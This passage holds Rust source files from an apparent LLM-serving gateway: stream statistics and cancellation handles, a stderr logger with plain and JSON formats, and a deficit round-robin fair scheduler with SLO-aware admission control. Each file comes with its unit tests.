            self.ttft_us.p50(),
            self.ttft_us.p99(),
            self.tokens_per_sec_milli.p50(),
        )
    }
}

/// One live stream's handle, minted where the stream enters the system
/// (the gateway). Owns the cancellation token and records the stream's
/// lifecycle into [`StreamStats`] exactly once.
pub struct StreamHandle {
    token: CancelToken,
    stats: Arc<StreamStats>,
    started: Instant,
    first_byte: bool,
    finished: bool,
}

impl StreamHandle {
    pub fn begin(stats: Arc<StreamStats>) -> StreamHandle {
        stats.streams_started.fetch_add(1, Ordering::Relaxed);
        StreamHandle {
            token: CancelToken::new(),
            stats,
            started: Instant::now(),
            first_byte: false,
            finished: false,
        }
    }

    /// The stream's cancellation token (clone freely).
    pub fn token(&self) -> CancelToken {
        self.token.clone()
    }

    /// Record a forwarded chunk (TTFT on the first one).
    pub fn on_chunk(&mut self, bytes: usize) {
        if !self.first_byte {
            self.first_byte = true;
            self.stats
                .ttft_us
                .record(self.started.elapsed().as_micros() as u64);
        }
        self.stats
            .bytes_streamed
            .fetch_add(bytes as u64, Ordering::Relaxed);
    }

    /// Record a chunk forwarded through the opaque relay path (TTFT on the
    /// first, bytes into both the generic and the relay counter).
    pub fn on_forward(&mut self, bytes: usize) {
        self.on_chunk(bytes);
        self.stats
            .bytes_forwarded
            .fetch_add(bytes as u64, Ordering::Relaxed);
    }

    pub fn finish_completed(mut self) {
        self.finished = true;
        self.stats.streams_completed.fetch_add(1, Ordering::Relaxed);
    }

    pub fn finish_cancelled(mut self) {
        self.finished = true;
        self.stats.streams_cancelled.fetch_add(1, Ordering::Relaxed);
    }

    pub fn finish_error(mut self) {
        self.finished = true;
        self.stats.upstream_errors.fetch_add(1, Ordering::Relaxed);
    }
}

impl Drop for StreamHandle {
    fn drop(&mut self) {
        // A handle dropped without a verdict is a cancelled stream (the
        // forwarding thread died or bailed early).
        if !self.finished {
            self.stats.streams_cancelled.fetch_add(1, Ordering::Relaxed);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cancel_token_is_sticky_and_shared() {
        let t = CancelToken::new();
        let clone = t.clone();
        assert!(!t.is_cancelled());
        clone.cancel();
        assert!(t.is_cancelled());
        t.cancel(); // idempotent
        assert!(clone.is_cancelled());
    }

    #[test]
    fn stall_policy_parses() {
        assert_eq!(StallPolicy::parse("disconnect"), Some(StallPolicy::Disconnect));
        assert_eq!(StallPolicy::parse("drop"), Some(StallPolicy::Drop));
        assert_eq!(StallPolicy::parse("panic"), None);
    }

    #[test]
    fn handle_lifecycle_counts_once() {
        let stats = StreamStats::new();
        let mut h = StreamHandle::begin(stats.clone());
        h.on_chunk(10);
        h.on_chunk(5);
        h.finish_completed();
        assert_eq!(stats.streams_started.load(Ordering::Relaxed), 1);
        assert_eq!(stats.streams_completed.load(Ordering::Relaxed), 1);
        assert_eq!(stats.streams_cancelled.load(Ordering::Relaxed), 0);
        assert_eq!(stats.bytes_streamed.load(Ordering::Relaxed), 15);
        assert_eq!(stats.ttft_us.count(), 1, "TTFT recorded once");
    }

    #[test]
    fn dropped_handle_counts_as_cancelled() {
        let stats = StreamStats::new();
        {
            let _h = StreamHandle::begin(stats.clone());
        }
        assert_eq!(stats.streams_cancelled.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn relay_counters_and_on_forward() {
        let stats = StreamStats::new();
        let mut h = StreamHandle::begin(stats.clone());
        h.on_forward(100);
        h.finish_completed();
        assert_eq!(stats.bytes_streamed.load(Ordering::Relaxed), 100);
        assert_eq!(stats.bytes_forwarded.load(Ordering::Relaxed), 100);
        assert_eq!(stats.ttft_us.count(), 1, "TTFT recorded via on_forward");
        let text = stats.prometheus_text("hop");
        assert!(text.contains("hop_stream_bytes_forwarded_total 100"), "{text}");
        assert!(text.contains("hop_stream_frames_batched_total 0"), "{text}");
        assert!(text.contains("hop_stream_relay_fallbacks_total 0"), "{text}");
        assert!(
            text.contains("hop_stream_terminal_errors_synthesized_total 0"),
            "{text}"
        );
    }

    #[test]
    fn streaming_config_relay_defaults() {
        let cfg = StreamingConfig::default();
        assert!(cfg.relay, "relay fast path on by default");
        assert!(cfg.coalesce.is_zero(), "coalescing opt-in");
        assert_eq!(cfg.coalesce_max_tokens, 8);
    }

    #[test]
    fn prometheus_text_has_prefix() {
        let stats = StreamStats::new();
        stats.streams_started.fetch_add(3, Ordering::Relaxed);
        let text = stats.prometheus_text("gateway");
        assert!(text.contains("gateway_streams_started_total 3"), "{text}");
        assert!(text.contains("gateway_stream_ttft_p50_us 0"), "{text}");
    }
}
