//! Tiny `log` backend: leveled, timestamped stderr logging.
//!
//! `RUST_LOG`-style filtering is reduced to a single global level chosen at
//! init (the service components all log through the `log` facade). Two
//! output formats: the default human-readable plain format, and a
//! structured JSON mode (`CHAT_AI_LOG_FORMAT=json`) that stamps every line
//! with the thread's active trace ID so log lines can be joined against
//! the per-hop span data in `util::trace`.

use log::{Level, LevelFilter, Metadata, Record};
use std::sync::OnceLock;
use std::time::Instant;

use crate::util::json::Json;
use crate::util::trace;

/// Log line encoding, selected once at init via `CHAT_AI_LOG_FORMAT`.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Format {
    /// `[      1.234s WARN  gateway] message` — the historical default.
    Plain,
    /// One JSON object per line: `ts`, `level`, `target`, `msg`, plus
    /// `trace` when the emitting thread has an active trace scope.
    Json,
}

struct StderrLogger {
    start: Instant,
    level: Level,
    format: Format,
}

/// Render one record in the plain format (pure; unit-testable).
fn format_plain(t: f64, level: Level, target: &str, msg: &str) -> String {
    format!("[{t:10.3}s {level:5} {target}] {msg}")
}

/// Render one record as a JSON line (pure; unit-testable). The `Json`
/// serializer handles escaping, so arbitrary message bytes stay one line.
fn format_json(t: f64, level: Level, target: &str, msg: &str, trace_id: Option<&str>) -> String {
    let mut obj = Json::obj()
        .set("ts", format!("{t:.3}"))
        .set("level", level.as_str())
        .set("target", target)
        .set("msg", msg);
    if let Some(id) = trace_id {
        obj = obj.set("trace", id);
    }
    obj.to_string()
}

impl log::Log for StderrLogger {
    fn enabled(&self, metadata: &Metadata) -> bool {
        metadata.level() <= self.level
    }

    fn log(&self, record: &Record) {
        if self.enabled(record.metadata()) {
            let t = self.start.elapsed().as_secs_f64();
            let msg = record.args().to_string();
            let line = match self.format {
                Format::Plain => format_plain(t, record.level(), record.target(), &msg),
                Format::Json => {
                    let id = trace::current();
                    format_json(
                        t,
                        record.level(),
                        record.target(),
                        &msg,
                        id.as_ref().map(|i| i.as_str()),
                    )
                }
            };
            eprintln!("{line}");
        }
    }

    fn flush(&self) {}
}

static LOGGER: OnceLock<StderrLogger> = OnceLock::new();

/// Install the logger (idempotent). Level comes from `CHAT_AI_LOG`
/// (`error|warn|info|debug|trace`), defaulting to `warn` so tests stay
/// quiet; format comes from `CHAT_AI_LOG_FORMAT` (`plain|json`).
pub fn init() {
    init_with_level(default_level());
}

fn default_level() -> Level {
    match std::env::var("CHAT_AI_LOG").as_deref() {
        Ok("error") => Level::Error,
        Ok("info") => Level::Info,
        Ok("debug") => Level::Debug,
        Ok("trace") => Level::Trace,
        Ok("warn") | _ => Level::Warn,
    }
}

fn default_format() -> Format {
    match std::env::var("CHAT_AI_LOG_FORMAT").as_deref() {
        Ok("json") => Format::Json,
        _ => Format::Plain,
    }
}

/// Install the logger at an explicit level (idempotent; first call wins).
pub fn init_with_level(level: Level) {
    let logger = LOGGER.get_or_init(|| StderrLogger {
        start: Instant::now(),
        level,
        format: default_format(),
    });
    // set_logger fails if already set (e.g. by a previous test) — fine.
    let _ = log::set_logger(logger);
    log::set_max_level(LevelFilter::Trace);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::trace::TraceId;

    #[test]
    fn init_is_idempotent() {
        init();
        init();
        log::info!("logging smoke test");
    }

    #[test]
    fn plain_format_unchanged() {
        let line = format_plain(1.5, Level::Warn, "gateway", "upstream error");
        assert_eq!(line, "[     1.500s WARN  gateway] upstream error");
    }

    #[test]
    fn json_format_carries_all_fields_and_trace() {
        let id = TraceId::from_u64(0xabcd);
        let line = format_json(2.25, Level::Info, "hpc", "connected", Some(id.as_str()));
        let v = crate::util::json::parse(&line).expect("valid json");
        assert_eq!(v.str_field("ts"), Some("2.250"));
        assert_eq!(v.str_field("level"), Some("INFO"));
        assert_eq!(v.str_field("target"), Some("hpc"));
        assert_eq!(v.str_field("msg"), Some("connected"));
        assert_eq!(v.str_field("trace"), Some("000000000000abcd"));
    }

    #[test]
    fn json_format_omits_trace_when_absent_and_escapes() {
        let line = format_json(0.0, Level::Error, "t", "quote \" and\nnewline", None);
        assert!(!line.contains('\n'), "must stay one line: {line}");
        let v = crate::util::json::parse(&line).expect("valid json");
        assert!(v.get("trace").is_none());
        assert_eq!(v.str_field("msg"), Some("quote \" and\nnewline"));
    }

    #[test]
    fn json_format_picks_up_scoped_trace() {
        let id = TraceId::from_u64(7);
        let _scope = trace::scoped(id);
        let got = trace::current().unwrap();
        let line = format_json(0.1, Level::Debug, "x", "m", Some(got.as_str()));
        let v = crate::util::json::parse(&line).unwrap();
        assert_eq!(v.str_field("trace"), Some(id.as_str()));
    }
}
