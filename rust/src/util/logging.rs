//! Tiny `log` backend: leveled, timestamped stderr logging.
//!
//! `RUST_LOG`-style filtering is reduced to a single global level chosen at
//! init (the service components all log through the `log` facade).

use log::{Level, LevelFilter, Metadata, Record};
use std::sync::OnceLock;
use std::time::Instant;

struct StderrLogger {
    start: Instant,
    level: Level,
}

impl log::Log for StderrLogger {
    fn enabled(&self, metadata: &Metadata) -> bool {
        metadata.level() <= self.level
    }

    fn log(&self, record: &Record) {
        if self.enabled(record.metadata()) {
            let t = self.start.elapsed().as_secs_f64();
            eprintln!(
                "[{t:10.3}s {:5} {}] {}",
                record.level(),
                record.target(),
                record.args()
            );
        }
    }

    fn flush(&self) {}
}

static LOGGER: OnceLock<StderrLogger> = OnceLock::new();

/// Install the logger (idempotent). Level comes from `CHAT_AI_LOG`
/// (`error|warn|info|debug|trace`), defaulting to `warn` so tests stay quiet.
pub fn init() {
    init_with_level(default_level());
}

fn default_level() -> Level {
    match std::env::var("CHAT_AI_LOG").as_deref() {
        Ok("error") => Level::Error,
        Ok("info") => Level::Info,
        Ok("debug") => Level::Debug,
        Ok("trace") => Level::Trace,
        Ok("warn") | _ => Level::Warn,
    }
}

/// Install the logger at an explicit level (idempotent; first call wins).
pub fn init_with_level(level: Level) {
    let logger = LOGGER.get_or_init(|| StderrLogger {
        start: Instant::now(),
        level,
    });
    // set_logger fails if already set (e.g. by a previous test) — fine.
    let _ = log::set_logger(logger);
    log::set_max_level(LevelFilter::Trace);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn init_is_idempotent() {
        init();
        init();
        log::info!("logging smoke test");
    }
}
