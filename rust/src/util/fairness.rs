//! Multi-tenant fair scheduling and SLO-aware admission control.
//!
//! The gateway authenticates *consumers* (API keys, SSO identities) but the
//! seed engine admitted work strictly first-come-first-served: one heavy
//! consumer could fill every continuous-batching slot and the wait queue
//! behind it was unbounded. This module supplies the two missing layers:
//!
//! * [`FairScheduler`] — token-weighted deficit round-robin (DRR) over
//!   per-consumer virtual queues. Each tenant accrues a deficit of
//!   `quantum × weight` tokens per round; a queued request is released
//!   when the tenant's deficit covers its estimated token cost, and the
//!   tenant is charged the *actual* prefill + decode tokens it consumes
//!   (overruns become debt paid down from future deficit). Priority
//!   classes (`interactive` / `batch`) map to weights, so interactive
//!   traffic gets a larger guaranteed share without starving batch:
//!   every backlogged tenant still receives its quantum each round.
//!
//! * [`AdmissionController`] — a bounded admission queue per engine
//!   instance plus an estimated-wait check. The wait estimate is the
//!   decode work already queued ahead divided by the instance's measured
//!   decode throughput; a request whose class wait budget would be
//!   exceeded (or that finds the queue at capacity) is shed *at submit
//!   time* with a `Retry-After` hint, so the client sees a fast 429/503
//!   at the gateway instead of a deep timeout.
//!
//! Both pieces are deliberately engine-agnostic (plain token arithmetic,
//! no engine types) so they can be property-tested in isolation — see
//! `tests/fairness.rs` for the starvation-freedom and shed-monotonicity
//! properties.

use std::collections::{HashMap, VecDeque};
use std::time::{Duration, Instant};

/// Request priority class, threaded from the gateway (consumer config +
/// `x-chat-ai-priority` header) down to the engine's admission loop.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Priority {
    /// Latency-sensitive, *guaranteed* traffic (chat UIs). Larger
    /// fair-share weight and the larger wait budget: under overload it is
    /// the last thing shed.
    #[default]
    Interactive,
    /// Throughput-oriented, *sheddable* traffic (eval sweeps, batch
    /// pipelines). Smaller weight and the tighter wait budget: overload
    /// sheds batch first — its clients handle `Retry-After` backoff
    /// gracefully, which protects interactive capacity.
    Batch,
}

impl Priority {
    pub fn parse(s: &str) -> Option<Priority> {
        match s.trim().to_ascii_lowercase().as_str() {
            "interactive" => Some(Priority::Interactive),
            "batch" => Some(Priority::Batch),
            _ => None,
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            Priority::Interactive => "interactive",
            Priority::Batch => "batch",
        }
    }
}

/// `[fairness]` tuning, threaded config → launcher → engine.
#[derive(Debug, Clone)]
pub struct FairnessConfig {
    /// Master switch (the ablation surface): off = the seed's FIFO intake
    /// and an unbounded queue with no shedding.
    pub enabled: bool,
    /// DRR quantum in tokens per round (scaled by the class weight).
    pub quantum: u64,
    /// Fair-share weight for interactive tenants.
    pub interactive_weight: u64,
    /// Fair-share weight for batch tenants.
    pub batch_weight: u64,
    /// Bounded admission queue: requests beyond this are shed with 503.
    pub queue_cap: usize,
    /// Estimated-wait budget before an interactive request is shed (429).
    /// The larger of the two: guaranteed traffic sheds last.
    pub interactive_wait: Duration,
    /// Estimated-wait budget before a batch request is shed (429). Kept
    /// *below* the interactive budget: batch is the sheddable class.
    pub batch_wait: Duration,
    /// Evict a tenant's bookkeeping after this long with nothing queued,
    /// running or charged — the churning-consumer leak guard.
    pub tenant_idle: Duration,
    /// Autoscaling demand weight for sheddable (batch) load; 1.0 counts
    /// batch like guaranteed load, 0.0 scales only for interactive.
    pub batch_demand_weight: f64,
}

impl Default for FairnessConfig {
    fn default() -> FairnessConfig {
        FairnessConfig {
            enabled: true,
            quantum: 256,
            interactive_weight: 4,
            batch_weight: 1,
            queue_cap: 256,
            interactive_wait: Duration::from_secs(60),
            batch_wait: Duration::from_secs(30),
            tenant_idle: Duration::from_secs(300),
            batch_demand_weight: 1.0,
        }
    }
}

impl FairnessConfig {
    pub fn weight(&self, priority: Priority) -> u64 {
        match priority {
            Priority::Interactive => self.interactive_weight.max(1),
            Priority::Batch => self.batch_weight.max(1),
        }
    }

    pub fn wait_budget(&self, priority: Priority) -> Duration {
        match priority {
            Priority::Interactive => self.interactive_wait,
            Priority::Batch => self.batch_wait,
        }
    }
}

/// Why a request was shed instead of queued.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShedReason {
    /// The bounded admission queue is full → HTTP 503.
    QueueFull,
    /// The estimated queue wait exceeds the class budget → HTTP 429.
    WaitBudget,
}

/// An admission rejection, carrying the client-facing retry hint.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Shed {
    pub reason: ShedReason,
    /// How long the client should back off before retrying.
    pub retry_after: Duration,
}

impl Shed {
    pub fn status(&self) -> u16 {
        match self.reason {
            ShedReason::QueueFull => 503,
            ShedReason::WaitBudget => 429,
        }
    }

    /// `Retry-After` header value (whole seconds, at least 1).
    pub fn retry_after_secs(&self) -> u64 {
        self.retry_after.as_secs().max(1)
    }
}

/// One queued entry: estimated token cost + payload.
struct Entry<T> {
    cost: u64,
    arrival: u64,
    item: T,
}

struct Tenant<T> {
    queue: VecDeque<Entry<T>>,
    weight: u64,
    /// Tokens of credit accumulated from DRR rounds, spent on releases.
    deficit: u64,
    /// Actual tokens consumed beyond what the deficit already paid for —
    /// settled from future rounds before new releases.
    debt: u64,
    /// Lifetime tokens charged (prefill + decode), for the share gauge.
    consumed: u64,
    last_active: Instant,
}

impl<T> Tenant<T> {
    fn idle(&self) -> bool {
        self.queue.is_empty()
    }
}

/// Token-weighted deficit round-robin over per-tenant virtual queues.
///
/// With `fair = false` the same structure degrades to one global FIFO
/// (arrival order), which is the ablation baseline — callers never branch.
pub struct FairScheduler<T> {
    tenants: HashMap<String, Tenant<T>>,
    /// Round-robin ring of tenants with queued work.
    ring: VecDeque<String>,
    quantum: u64,
    fair: bool,
    len: usize,
    queued_cost: u64,
    next_arrival: u64,
    /// Decreasing arrival stamps for restored items (they re-enter ahead
    /// of everything queued, preserving FIFO-mode order).
    next_front: u64,
    tenant_idle: Duration,
}

impl<T> FairScheduler<T> {
    pub fn new(config: &FairnessConfig) -> FairScheduler<T> {
        FairScheduler {
            tenants: HashMap::new(),
            ring: VecDeque::new(),
            quantum: config.quantum.max(1),
            fair: config.enabled,
            len: 0,
            queued_cost: 0,
            next_arrival: 1 << 32,
            next_front: (1 << 32) - 1,
            tenant_idle: config.tenant_idle,
        }
    }

    pub fn len(&self) -> usize {
        self.len
    }

    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Estimated tokens queued across all tenants (admission's wait input).
    pub fn queued_cost(&self) -> u64 {
        self.queued_cost
    }

    /// Enqueue `item` for `tenant` with an estimated token `cost`.
    pub fn push(&mut self, tenant: &str, weight: u64, cost: u64, item: T) {
        let now = Instant::now();
        let t = self
            .tenants
            .entry(tenant.to_string())
            .or_insert_with(|| Tenant {
                queue: VecDeque::new(),
                weight: weight.max(1),
                deficit: 0,
                debt: 0,
                consumed: 0,
                last_active: now,
            });
        t.weight = weight.max(1);
        t.last_active = now;
        if t.queue.is_empty() && !self.ring.iter().any(|n| n == tenant) {
            self.ring.push_back(tenant.to_string());
        }
        t.queue.push_back(Entry {
            cost: cost.max(1),
            arrival: self.next_arrival,
            item,
        });
        self.next_arrival += 1;
        self.len += 1;
        self.queued_cost += cost.max(1);
    }

    /// Release the next request by fair-share debt (or arrival order when
    /// fairness is off). Returns the owning tenant with the item.
    pub fn pop(&mut self) -> Option<(String, T)> {
        if self.len == 0 {
            return None;
        }
        if !self.fair {
            return self.pop_fifo();
        }
        // DRR: visit the ring; each visit grants quantum × weight. A full
        // pass always increases every backlogged tenant's deficit, so some
        // front request becomes affordable after finitely many passes.
        loop {
            let name = self.ring.pop_front()?;
            let Some(t) = self.tenants.get_mut(&name) else {
                continue;
            };
            if t.queue.is_empty() {
                continue; // stale ring entry
            }
            let grant = self.quantum.saturating_mul(t.weight);
            // New credit first settles debt from past overruns.
            let settle = grant.min(t.debt);
            t.debt -= settle;
            t.deficit = t.deficit.saturating_add(grant - settle);
            let affordable = t.queue.front().is_some_and(|e| e.cost <= t.deficit);
            if affordable {
                let entry = t.queue.pop_front().unwrap();
                t.deficit -= entry.cost;
                t.last_active = Instant::now();
                if t.queue.is_empty() {
                    // Leftover credit does not bank across idle periods.
                    t.deficit = 0;
                } else {
                    self.ring.push_back(name.clone());
                }
                self.len -= 1;
                self.queued_cost = self.queued_cost.saturating_sub(entry.cost);
                return Some((name, entry.item));
            }
            self.ring.push_back(name);
        }
    }

    fn pop_fifo(&mut self) -> Option<(String, T)> {
        let (name, _) = self
            .tenants
            .iter()
            .filter_map(|(n, t)| t.queue.front().map(|e| (n.clone(), e.arrival)))
            .min_by_key(|(_, a)| *a)?;
        let t = self.tenants.get_mut(&name).unwrap();
        let entry = t.queue.pop_front().unwrap();
        t.last_active = Instant::now();
        self.len -= 1;
        self.queued_cost = self.queued_cost.saturating_sub(entry.cost);
        Some((name, entry.item))
    }

    /// Put back an item just released by [`FairScheduler::pop`] that could
    /// not start (e.g. no KV headroom): it returns to the *front* of its
    /// tenant's queue and the deficit spent releasing it is refunded, so
    /// the retry happens in the same order.
    pub fn restore(&mut self, tenant: &str, weight: u64, cost: u64, item: T) {
        let now = Instant::now();
        let cost = cost.max(1);
        let t = self
            .tenants
            .entry(tenant.to_string())
            .or_insert_with(|| Tenant {
                queue: VecDeque::new(),
                weight: weight.max(1),
                deficit: 0,
                debt: 0,
                consumed: 0,
                last_active: now,
            });
        t.weight = weight.max(1);
        t.last_active = now;
        if t.queue.is_empty() && !self.ring.iter().any(|n| n == tenant) {
            self.ring.push_front(tenant.to_string());
        }
        if self.fair {
            t.deficit = t.deficit.saturating_add(cost);
        }
        t.queue.push_front(Entry {
            cost,
            arrival: self.next_front,
            item,
        });
        self.next_front = self.next_front.saturating_sub(1);
        self.len += 1;
        self.queued_cost += cost;
    }

    /// Charge `tenant` tokens it actually consumed (prefill + decode).
    /// Consumption beyond the deficit already spent becomes debt, pushing
    /// the tenant back in future rounds.
    pub fn charge(&mut self, tenant: &str, tokens: u64) {
        if tokens == 0 {
            return;
        }
        let now = Instant::now();
        let t = self
            .tenants
            .entry(tenant.to_string())
            .or_insert_with(|| Tenant {
                queue: VecDeque::new(),
                weight: 1,
                deficit: 0,
                debt: 0,
                consumed: 0,
                last_active: now,
            });
        t.consumed = t.consumed.saturating_add(tokens);
        t.last_active = now;
        if !self.fair {
            return;
        }
        let paid = t.deficit.min(tokens);
        t.deficit -= paid;
        // Cap debt at a few rounds' grant so a tenant is delayed, not banned.
        let cap = self.quantum.saturating_mul(t.weight.max(1)).saturating_mul(4);
        t.debt = (t.debt + (tokens - paid)).min(cap);
    }

    /// Lifetime tokens consumed per tenant (the share gauge's input).
    pub fn shares(&self) -> Vec<(String, u64)> {
        self.tenants
            .iter()
            .map(|(n, t)| (n.clone(), t.consumed))
            .collect()
    }

    /// Max/min consumed-token ratio across tenants that consumed anything
    /// (1.0 = perfectly even, higher = more skew). 0 when <2 active.
    pub fn fairness_ratio(&self) -> f64 {
        let mut consumed: Vec<u64> = self
            .tenants
            .values()
            .map(|t| t.consumed)
            .filter(|c| *c > 0)
            .collect();
        if consumed.len() < 2 {
            return 0.0;
        }
        consumed.sort_unstable();
        *consumed.last().unwrap() as f64 / consumed[0].max(1) as f64
    }

    /// Drop bookkeeping for tenants idle past the configured horizon
    /// (nothing queued; their consumed/debt state has aged out). Returns
    /// how many were evicted. Called opportunistically from the engine's
    /// idle path — this is what keeps a churning consumer population from
    /// growing the map without bound.
    pub fn evict_idle(&mut self) -> usize {
        let horizon = self.tenant_idle;
        let before = self.tenants.len();
        self.tenants
            .retain(|_, t| !t.idle() || t.last_active.elapsed() < horizon);
        before - self.tenants.len()
    }

    /// Number of tenants currently tracked (bookkeeping gauge).
    pub fn tenant_count(&self) -> usize {
        self.tenants.len()
    }
}

/// SLO-aware admission decisions from queue depth + measured throughput.
///
/// Pure arithmetic (no clock, no engine types): callers feed the current
/// queue length, the decode tokens queued ahead, and the instance's
/// measured decode throughput. Decisions are monotone in queue depth —
/// see `tests/fairness.rs`.
pub struct AdmissionController {
    config: FairnessConfig,
}

impl AdmissionController {
    pub fn new(config: FairnessConfig) -> AdmissionController {
        AdmissionController { config }
    }

    /// Expected queue wait given `queued_tokens` of decode work ahead and
    /// a measured throughput. Unknown throughput (cold instance) estimates
    /// zero wait: never shed on a guess.
    pub fn estimate_wait(&self, queued_tokens: u64, tokens_per_sec: f64) -> Duration {
        if tokens_per_sec <= 0.0 {
            return Duration::ZERO;
        }
        Duration::from_secs_f64(queued_tokens as f64 / tokens_per_sec)
    }

    /// Admit or shed a request of class `priority` arriving to a queue of
    /// `queue_len` requests holding `queued_tokens` of estimated decode
    /// work, with the instance decoding at `tokens_per_sec`.
    pub fn admit(
        &self,
        priority: Priority,
        queue_len: usize,
        queued_tokens: u64,
        tokens_per_sec: f64,
    ) -> Result<(), Shed> {
        if !self.config.enabled {
            return Ok(());
        }
        let est_wait = self.estimate_wait(queued_tokens, tokens_per_sec);
        if queue_len >= self.config.queue_cap {
            return Err(Shed {
                reason: ShedReason::QueueFull,
                retry_after: est_wait.max(Duration::from_secs(1)),
            });
        }
        let budget = self.config.wait_budget(priority);
        if est_wait > budget {
            return Err(Shed {
                reason: ShedReason::WaitBudget,
                retry_after: est_wait - budget + Duration::from_secs(1),
            });
        }
        Ok(())
    }

    pub fn config(&self) -> &FairnessConfig {
        &self.config
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg() -> FairnessConfig {
        FairnessConfig::default()
    }

    #[test]
    fn priority_parses_and_defaults() {
        assert_eq!(Priority::parse("interactive"), Some(Priority::Interactive));
        assert_eq!(Priority::parse("BATCH"), Some(Priority::Batch));
        assert_eq!(Priority::parse(" batch "), Some(Priority::Batch));
        assert_eq!(Priority::parse("vip"), None);
        assert_eq!(Priority::default(), Priority::Interactive);
        assert_eq!(Priority::Batch.as_str(), "batch");
    }

    #[test]
    fn single_tenant_is_fifo() {
        let mut s = FairScheduler::new(&cfg());
        for i in 0..5 {
            s.push("a", 1, 10, i);
        }
        let order: Vec<i32> = std::iter::from_fn(|| s.pop().map(|(_, v)| v)).collect();
        assert_eq!(order, vec![0, 1, 2, 3, 4]);
        assert!(s.is_empty());
        assert_eq!(s.queued_cost(), 0);
    }

    #[test]
    fn equal_tenants_interleave() {
        let mut s = FairScheduler::new(&cfg());
        // a floods first, b arrives second: FIFO would drain all of a.
        for i in 0..4 {
            s.push("a", 1, 100, format!("a{i}"));
        }
        for i in 0..4 {
            s.push("b", 1, 100, format!("b{i}"));
        }
        let order: Vec<String> = std::iter::from_fn(|| s.pop().map(|(t, _)| t)).collect();
        // After the first pop of each, service alternates — b is never
        // stuck behind a's whole backlog.
        let first_b = order.iter().position(|t| t == "b").unwrap();
        assert!(first_b <= 1, "b starved to position {first_b}: {order:?}");
        let a_done = order.iter().rposition(|t| t == "a").unwrap();
        let b_done = order.iter().rposition(|t| t == "b").unwrap();
        assert!((a_done as i64 - b_done as i64).abs() <= 1, "{order:?}");
    }

    #[test]
    fn weights_bias_service_share() {
        // Quantum well below the request cost: a release takes several
        // rounds of credit, so the 4× weight shows up as a 4× share (with
        // quantum ≥ cost every visit releases and DRR degenerates to 1:1
        // round-robin regardless of weight).
        let c = FairnessConfig {
            quantum: 16,
            ..cfg()
        };
        let mut s = FairScheduler::new(&c);
        for i in 0..12 {
            s.push("interactive", c.weight(Priority::Interactive), 64, format!("i{i}"));
            s.push("batch", c.weight(Priority::Batch), 64, format!("b{i}"));
        }
        // First 10 releases: interactive (4× weight) must get clearly more.
        let mut first = Vec::new();
        for _ in 0..10 {
            first.push(s.pop().unwrap().0);
        }
        let n_interactive = first.iter().filter(|t| *t == "interactive").count();
        assert!(
            n_interactive >= 6,
            "interactive got {n_interactive}/10: {first:?}"
        );
        // But batch is not starved.
        assert!(first.iter().any(|t| t == "batch"), "{first:?}");
    }

    #[test]
    fn charged_overrun_becomes_debt_and_pushes_tenant_back() {
        let mut s = FairScheduler::new(&cfg());
        // Both queue cheap requests; "hog" already consumed far beyond its
        // estimates (long decodes), so its next release comes later.
        s.charge("hog", 2000);
        for i in 0..3 {
            s.push("hog", 1, 10, format!("h{i}"));
            s.push("meek", 1, 10, format!("m{i}"));
        }
        let order: Vec<String> = std::iter::from_fn(|| s.pop().map(|(t, _)| t)).collect();
        let first_meek = order.iter().position(|t| t == "meek").unwrap();
        let first_hog = order.iter().position(|t| t == "hog").unwrap();
        assert!(
            first_meek < first_hog,
            "debt-laden tenant served first: {order:?}"
        );
        // All items still drain (debt delays, never bans).
        assert_eq!(order.len(), 6);
    }

    #[test]
    fn fifo_mode_preserves_arrival_order() {
        let mut config = cfg();
        config.enabled = false;
        let mut s = FairScheduler::new(&config);
        s.push("a", 1, 1000, "a0");
        s.push("b", 4, 1, "b0");
        s.push("a", 1, 1000, "a1");
        let order: Vec<&str> = std::iter::from_fn(|| s.pop().map(|(_, v)| v)).collect();
        assert_eq!(order, vec!["a0", "b0", "a1"], "strict arrival order");
    }

    #[test]
    fn idle_tenants_are_evicted_but_busy_ones_kept() {
        let mut config = cfg();
        config.tenant_idle = Duration::ZERO;
        let mut s = FairScheduler::new(&config);
        s.push("busy", 1, 10, ());
        s.charge("gone", 50);
        assert_eq!(s.tenant_count(), 2);
        let evicted = s.evict_idle();
        assert_eq!(evicted, 1, "only the idle tenant goes");
        assert_eq!(s.tenant_count(), 1);
        assert_eq!(s.len(), 1, "queued work untouched");
    }

    #[test]
    fn fairness_ratio_reflects_skew() {
        let mut s: FairScheduler<()> = FairScheduler::new(&cfg());
        assert_eq!(s.fairness_ratio(), 0.0, "no active tenants");
        s.charge("a", 100);
        assert_eq!(s.fairness_ratio(), 0.0, "one active tenant");
        s.charge("b", 400);
        assert!((s.fairness_ratio() - 4.0).abs() < 1e-9);
    }

    #[test]
    fn admission_queue_cap_sheds_503() {
        let mut config = cfg();
        config.queue_cap = 4;
        let ac = AdmissionController::new(config);
        assert!(ac.admit(Priority::Batch, 3, 0, 100.0).is_ok());
        let shed = ac.admit(Priority::Batch, 4, 0, 100.0).unwrap_err();
        assert_eq!(shed.reason, ShedReason::QueueFull);
        assert_eq!(shed.status(), 503);
        assert!(shed.retry_after_secs() >= 1);
    }

    #[test]
    fn admission_wait_budget_sheds_batch_before_interactive() {
        let mut config = cfg();
        config.interactive_wait = Duration::from_secs(60);
        config.batch_wait = Duration::from_secs(2);
        let ac = AdmissionController::new(config);
        // 1000 tokens ahead at 100 tok/s = 10s wait: past the batch budget,
        // well inside the interactive one — batch is the sheddable class.
        let shed = ac.admit(Priority::Batch, 1, 1000, 100.0).unwrap_err();
        assert_eq!(shed.reason, ShedReason::WaitBudget);
        assert_eq!(shed.status(), 429);
        assert!(shed.retry_after_secs() >= 8, "{:?}", shed.retry_after);
        assert!(ac.admit(Priority::Interactive, 1, 1000, 100.0).is_ok());
        // Deep enough overload sheds interactive too.
        let shed = ac
            .admit(Priority::Interactive, 1, 10_000, 100.0)
            .unwrap_err();
        assert_eq!(shed.reason, ShedReason::WaitBudget);
    }

    #[test]
    fn admission_never_sheds_on_unknown_throughput() {
